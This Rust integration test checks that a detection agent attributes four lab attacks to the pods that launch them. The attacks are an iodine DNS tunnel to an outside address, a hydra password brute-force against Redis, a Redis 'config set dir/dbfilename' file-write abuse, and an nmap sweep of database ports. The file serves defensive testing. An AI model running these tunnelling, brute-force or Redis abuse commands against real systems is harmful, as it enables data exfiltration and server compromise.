//! Attacks by the tools that attackers use, each told with its pod by an agent that finds everything by itself.

use std::fs;
use std::time::Duration;

use crate::lab::Lab;
use crate::live::{account, is};

/// How long an attack may take to be told, the time that its tool needs included, on a machine that is busy with other tests.
const IN_TIME: Duration = Duration::from_secs(90);

#[test]
fn what_real_tools_do_is_told_with_the_pods_that_do_it() {
    let tools = [
        "iodine",
        "iodined",
        "hydra",
        "redis-server",
        "redis-cli",
        "nmap",
    ];
    let Some(lab) = Lab::new(&tools) else {
        return;
    };
    let store = lab.pod("sessions-0");
    let names = lab.outside("203.0.113.9");
    let [tunneller, guesser, abuser, sweeper] = ["billing", "worker", "web", "report"]
        .map(|name| lab.pod(&format!("{name}-7d4b9c8f5d-x2x9k")));
    let cni = lab.cni();
    let mut agent = lab.spanwatch(&["agent", "--inventory", cni.to_str().unwrap()]);
    agent.hear("started");

    let folder = lab.path("");
    let _store = store.start(&[
        "redis-server",
        "--bind",
        "0.0.0.0",
        "--requirepass",
        "correct-horse",
        "--save",
        "",
        "--dir",
        &folder,
        "--enable-protected-configs",
        "yes",
    ]);
    let _names = names.start(&[
        "iodined",
        "-f",
        "-c",
        "-P",
        "x",
        "172.16.9.1/24",
        "t.example.org",
    ]);
    let words = lab.path("words");
    let guesses: Vec<String> = (0..300).map(|number| format!("guess-{number}")).collect();
    fs::write(&words, guesses.join("\n")).unwrap();
    std::thread::sleep(Duration::from_secs(1));

    // What comes through the tunnel is somebody's data.
    let _tunnel = tunneller.start(&["iodine", "-f", "-r", "-P", "x", &names.ip, "t.example.org"]);
    let _through = tunneller.start(&[
        "sh",
        "-c",
        "for _ in $(seq 30); do ping -c 40 -i 0.05 -s 400 172.16.9.1; sleep 1; done",
    ]);
    let url = format!("redis://{}", store.ip);
    let _guesses = guesser.start(&["hydra", "-I", "-t", "4", "-P", &words, &url]);
    let _abuse = abuser.start(&[
        "sh", "-c",
        &format!(
            "export REDISCLI_AUTH=correct-horse; for line in 'set backup 1' 'config set dir {folder}' 'config set dbfilename root' save; \
             do redis-cli -h {} $line; sleep 1; done",
            store.ip
        ),
    ]);
    let hosts = "10.88.7.1-30";
    let _sweep = sweeper.start(&[
        "nmap",
        "-n",
        "-Pn",
        "-sT",
        "-p3306,5432,6379,9200,27017",
        hosts,
    ]);

    for (signature, pod) in [
        ("db-abuse", &abuser),
        ("db-bruteforce", &guesser),
        ("db-sweep", &sweeper),
        ("dns-tunnel", &tunneller),
    ] {
        let alert = agent.alert(IN_TIME, is(signature));
        assert_eq!(alert["actor"]["pod"], pod.name, "{alert}");
    }
    let (code, alerts, said) = agent.stop();
    assert_eq!(code, Some(0), "{said}");
    for alert in &alerts {
        let actor = &alert["actor"]["pod"];
        assert_ne!(
            *actor, store.name,
            "who was attacked attacks nobody: {alert}"
        );
    }
    let (received, became) = account(&said, "any");
    assert_eq!(received, became.iter().sum::<u64>(), "{said}");
}
